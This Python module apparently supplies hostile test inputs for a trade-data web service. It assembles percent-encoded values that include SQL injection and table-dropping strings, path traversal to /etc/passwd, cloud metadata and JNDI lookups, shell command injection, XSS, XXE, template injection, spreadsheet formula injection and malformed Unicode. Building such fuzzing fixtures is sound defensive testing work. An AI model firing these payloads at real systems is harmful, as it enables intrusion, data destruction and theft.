"""Five hundred values that no honest client sends, each of which once broke something somewhere."""

import base64
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote, quote_from_bytes

SQL = """
'|"|`|;|--|/*|*/|#|''|""|'''|'"|')|"))|'--|';--|' OR '1'='1|" OR ""="|' OR 1=1 --|') OR ('1'='1|1 OR 1=1
1' OR '1'='1' /*
'; DROP TABLE releases; --|'; DELETE FROM trade_flows; --|'; UPDATE countries SET name='x'; --|1; DROP TABLE releases
'; INSERT INTO releases DEFAULT VALUES; --|'; ATTACH DATABASE '/tmp/khorgos-x' AS x; --|'; PRAGMA writable_schema=1; --
'; CREATE TABLE x(y); --|'; VACUUM INTO '/tmp/khorgos-x'; --|' UNION SELECT NULL --|' UNION ALL SELECT 1,2,3 --
KAZ' UNION SELECT sql FROM sqlite_master --|1 UNION SELECT version()|' AND 1=CONVERT(int,@@version) --|'||'|a'||'b|'+'
' AND (SELECT 1 FROM pg_sleep(5)) --|'; SELECT pg_sleep(5); --|1 AND pg_sleep(5)|' || pg_sleep(5) || '
1); SELECT pg_sleep(5)
' AND randomblob(1000000000) --|'; COPY releases TO '/tmp/khorgos-x'; --|'; SET default_transaction_read_only=off; --
$$|$$;$$
$1|$2|:1|:name|%(name)s|%s|%%|@@version|@x|{fn now()}|0x27|CHAR(39)|chr(39)|E'\\''|U&'\\0027'|N'x'|x'27'|\\'|\\"|\\\\
\\|\\';--
ORDER BY 1|GROUP BY 1|HAVING 1=1|LIMIT 1|1 LIMIT 1|id; SELECT 1|sleep(5)|BENCHMARK(1,1)|WAITFOR DELAY '0:0:5'
xp_cmdshell
rowid|oid|ctid|xmin|tableoid|_rowid_|sqlite_master|information_schema.tables|pg_catalog.pg_user|current_user|NULL|null
DEFAULT
value_usd;|value_usd--|-value_usd DESC|value_usd,(SELECT 1)|value_usd COLLATE NOCASE|"value_usd"|[value_usd]
`value_usd`|*
""".replace("\n", "|")
WORDS = """
NEAR|NEAR(|NEAR(a, b)|NEAR(a b, 2)|a NEAR/2 b|a OR b|a AND b|a NOT b|NOT a|OR|AND|NOT|a OR|OR a|AND AND|^a|a^|a^2
words:a
words : a|{words}: a|-words:a|- words : a|rowid:1|a*|*a|a * b|a + b|+a|-a|(a|a)|((a)|()|)(|"a|a"|"a" "b|""a""|"a*"|"a" *
a & b|a | b|!a|!!a|a <-> b|a <2> b|a:*|a:A|a:ABCD|a:*B|<->|&|&&|!|(!a)|a & (b|'a':*|'a' & 'b'|''''|a\\:b|: *|:|::|::text
%|%%|_|__|%a%|a%|%_%|a_b|100%|\\%|\\_|a\\|[a]|[^a]|[a-z]|?|a?b|*?*|{a,b}|~|~*|SIMILAR TO|a|b|.*|^.*$|(a+)+$|(?i)a|(?R)
\\d+
"""
NUMBERS = """
1_000|1.0|+1|-0|-1|0x1|0X1F|0b1|0o7|01|00|007|1e3|1E3|1e-3|1e999|-1e999|1e400|NaN|nan|-nan|sNaN|Infinity|-Infinity|inf
+inf
∞|1,000|1 000|1'000|1.|.1|.|-|+|--1|+-1|1-1|1+1|2*2|1/0|0/0|1%|½|²|Ⅳ|一|\u0661\u0662\u0663|\u06f1\u06f2\u06f3
\uff11\uff12\uff13|\u0967\u0968\u0969|\U0001d7cf\U0001d7d0\U0001d7d1|2²|2147483647|2147483648
-2147483648|-2147483649|4294967295|4294967296|9007199254740993|9223372036854775807|9223372036854775808
-9223372036854775808
-9223372036854775809|18446744073709551615|18446744073709551616|340282366920938463463374607431768211456|0.1e1|1e308
1.8e308
1e-400|5e-324|0.30000000000000004|1.0000000001|99.9999999999|100.0000001|1n|1L|1f|1d|0xFFFFFFFFFFFFFFFF|True|TRUE|true
yes|on
off|None|undefined|void|1899|2101|1900|9999|10000|0000|-2024|20240|2024.0|2024.5|2024-|-2024-|2024-2025|2024..2025
2024:2025
2024-00|2024-13|2024-1|2024-001|2024-02-30|2024-W53|2024-Q0|2024-Q5|2024-S1|2024-T4|2024-Q1/2023-Q1|2024-05/2024-01
2024/2024
2024-01/2025-01|2024-12/2024-12|0000-01|9999-12|9999-Q4|2024-01-01T00:00:00Z|24|'24|2024 AD|P1Y|now|today|Infinity-01
1e3-01
""".replace("\n", "|")
PLACES = """
../|../../etc/passwd|..%2f..%2fetc%2fpasswd|..\\..\\windows|....//|/etc/passwd|//evil.example|/\\evil.example
\\\\evil\\x|C:\\x
file:///etc/passwd|https://evil.example/|//evil.example/%2e%2e|.|..|...|./.|~root|~/.ssh|con|nul|aux|lpt1|.htaccess
.git/HEAD
http://169.254.169.254/latest/meta-data|gopher://x|javascript:alert(1)|data:text/html,x|khorgos.db|khorgos.db-wal|;id
`id`|$(id)
| id|&& id|${IFS}id|{{7*7}}|${7*7}|#{7*7}|<%= 7*7 %>|{%25 x %25}|{0}|{}|{0.__class__}|{self.__init__.__globals__}
%n%n%n|%x|%d
%08x|%1$s|%(password)s|${jndi:ldap://x/a}|__proto__|constructor|__class__|__init__|self|cls|model_fields|model_config
app|state
<script>alert(1)</script>|"><img src=x onerror=alert(1)>|<svg onload=alert(1)>|'-alert(1)-'|</title>|<!--|]]>
<![CDATA[x]]>
&lt;script&gt;|&#x27;|&amp;|<?xml version="1.0"?>|<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>|&y;|=1+1|+1+1
-1+1|@SUM(1)
=cmd|'/c calc'!A0|=HYPERLINK("http://x")|{}|[]|[1]|{"a":1}|{"$ne":null}|{"$gt":""}|[[]]|"|""|null,null|[null]
{"a":{"b":1}}|,|,,
a,|,a|a,,b|a,b,c|-|--|---|-,-|;|:|=|==|&|&&|+|++|@|!|()|<>|>|<|>=1|<=1|!=|=1|eq.1|in.(1,2)|is.null|like.*|not.eq.1|gt.0
"""
LETTERS = (
    *("\u202ekaz", "kaz\u202c", "\u200fkaz", "\u200ekaz", "\u2066kaz\u2069", "\u061ckaz", "\u200bkaz", "ka\u200bz"),
    *("kaz\u200d", "kaz\ufeff", "\ufeffkaz", "\u2060kaz", "\u00adkaz", "\u034fkaz", "\u180ekaz", "ka\u00a0z", "\u00a0"),
    *(
        "\u3000",
        "\u2003kaz",
        "\u2028",
        "kaz\u2029",
        "\u0085x",
        "\u1680",
        "caf\u00e9",
        "cafe\u0301",
        "\u0301",
        "e\u0301" * 30,
    ),
    *(
        "\u212b",
        "\u00c5",
        "A\u030a",
        "\ufb01",
        "\u1e9e",
        "\u00df",
        "SS",
        "\u0130",
        "i\u0307",
        "\u0131",
        "\u017f",
        "\u03c2",
    ),
    *(
        "\u03a3",
        "\u1f88",
        "\ua7af",
        "Turkiye",
        "T\u00fcrkiye",
        "Tu\u0308rkiye",
        "TU\u0308RKI\u0307YE",
        "\u041a\u0410\u0417",
    ),
    *(
        "K\u0410Z",
        "\uff2b\uff21\uff3a",
        "\u24c0\u24b6\u24cf",
        "\u1d0b\u1d00\u1d22",
        "\U0001d40a\U0001d400\U0001d419",
        "\u4e2d\u56fd",
    ),
    *(
        "\ud7ff",
        "\ue000",
        "\ufffd",
        "\ufffe",
        "\uffff",
        "\U0001ffff",
        "\U0010ffff",
        "\U00010000",
        "\U0001f682",
        "\ufdfa",
    ),
    *(
        "\U0001f1f0\U0001f1ff",
        "\U0001f469\u200d\U0001f692",
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
        "\u0e33" * 40,
    ),
    *(
        "",
        " ",
        "  ",
        "\t",
        " 1",
        "1 ",
        " KAZ",
        "KAZ ",
        " KAZ ",
        "KAZ\t",
        "K AZ",
        "kaz kaz",
        "a" * 199,
        "a" * 200,
        "a" * 201,
    ),
    *(
        "\u00e9" * 200,
        "\U0001f682" * 200,
        "a" * 1999,
        "a" * 2000,
        "a" * 2001,
        "%" * 200,
        "_" * 200,
        "'" * 200,
        '"' * 200,
        "(" * 200,
    ),
    *(
        "a " * 100,
        "* " * 100,
        "1" * 20,
        "1" * 200,
        "9" * 400,
        "0" * 200,
        "-" * 200,
        "," * 199,
        "a," * 99 + "a",
        "1," * 199 + "1",
    ),
    *("1," * 200 + "1", "a OR " * 40 + "a", "%a" * 99, "[" * 200, "{" * 200, "\\" * 200, "../" * 60, "\u0660" * 20),
)
CONTROLS = [chr(code) for code in (*range(9), *range(10, 32), *range(127, 160))]
BROKEN = (
    *(
        b"\xff",
        b"\xfe",
        b"\x80",
        b"\xc0\x80",
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xc1\xbf",
        b"\xf0\x80\x80\xaf",
        b"\xed\xa0\x80",
    ),
    *(
        b"\xed\xbf\xbf",
        b"\xed\xa0\xbd\xed\xb8\x80",
        b"\xf4\x90\x80\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\xc3",
        b"\xe4\xb8",
        b"kaz\xff",
    ),
    *(
        b"\xef\xbf",
        b"\xfe\xff\x00a",
        b"\xff\xfea\x00",
        b"+ADw-script+AD4-\xff",
        b"caf\xe9",
        b"\xca\xb0\xe7\xe5\xf1",
        b"\x00\xff",
        b"%00%ff",
    ),
)
"""Bytes that are not UTF-8: overlong, halves of pairs, beyond Unicode, cut short, other encodings."""
LINES = (
    "a\r\nSet-Cookie: x=1",
    "a\nINFO forged",
    "a\r\n\r\n<html>",
    "a\x1b[31m",
    "\x00",
    "a\x00",
    "\x00a",
    "a\x00b",
    "KAZ\x00",
    "2024\x00",
)


def cursors() -> Iterator[str]:
    """Give cursors that this service did not write, though some look so."""
    states = (
        "",
        "x",
        "null",
        "{}",
        "[]",
        "[1]",
        "[1,2,3]",
        '[1,"x",[]]',
        '[1,"x",[1]]',
        '[1e999,"x",[]]',
        '["1","x",[]]',
    )
    more = (
        '[0,"x",[]]',
        '[2147483648,"x",[]]',
        '[9223372036854775808,"x",[]]',
        '[true,"x",[]]',
        "[" * 500,
        '[1,"x",[null]]',
    )
    for state in (*states, *more, '[1,"x",[NaN]]', '[1,"\ud83d\ude82",[]]', '[1,"x",{}]', "\x00" * 30, "9" * 300):
        yield base64.urlsafe_b64encode(state.encode(errors="surrogatepass")).decode().rstrip("=")
    yield from ("=", "====", "A===", "AA=A", "----", "____", "-_-_", "+/+/", "A" * 2000, "WzEs")


def found() -> Iterator[str]:
    """Give every value as it stands in a query, encoded; the same one may come twice."""
    texts = [
        *SQL.split("|"),
        *WORDS.replace("\n", "|").split("|"),
        *NUMBERS.split("|"),
        *PLACES.replace("\n", "|").split("|"),
    ]
    for text in (*texts, *LETTERS, *CONTROLS, *LINES, *cursors(), *map("".join, product("01.-", repeat=2))):
        yield quote(text, safe="", errors="surrogatepass")
    yield from (quote_from_bytes(content, safe="") for content in BROKEN)
    yield from (
        "%",
        "%%",
        "%z",
        "%zz",
        "%0",
        "%u0041",
        "%c0%ae%c0%ae%c0%af",
        "%252e%252e",
        "%2500",
        "a%",
        "+",
        "a+b",
        "%20+%20",
    )


HOSTILE = tuple(dict.fromkeys(found()))
"""Each value once, percent-encoded where it has to be and where it must not be."""
